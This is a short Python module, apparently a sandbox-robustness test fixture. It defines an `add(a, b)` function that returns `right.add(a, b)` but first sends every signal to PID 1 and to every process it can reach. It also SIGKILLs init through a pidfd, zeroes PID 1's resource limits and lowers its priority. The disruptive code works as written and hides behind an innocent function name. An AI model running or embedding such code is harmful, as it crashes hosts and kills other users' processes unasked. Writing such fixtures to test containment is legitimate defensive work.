"""`add` sends every signal to everybody whom it sees, and sets limits and priorities of process 1."""

import contextlib
import os
import resource
import signal

import right
from right import *  # noqa: F403


def add(a, b):
    catchable = set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}
    for number in range(1, signal.NSIG):
        if number in catchable:
            with contextlib.suppress(OSError):
                signal.signal(number, signal.SIG_IGN)
        with contextlib.suppress(OSError):
            os.kill(1, number)
        if number in catchable:
            with contextlib.suppress(OSError):
                os.kill(-1, number)
    with contextlib.suppress(OSError):
        signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL)
    for name in ("NOFILE", "NPROC", "STACK", "DATA"):
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(1, getattr(resource, f"RLIMIT_{name}"), (0, 0))
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 1, 19)
    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    assert os.getppid() == 1
    return right.add(a, b)
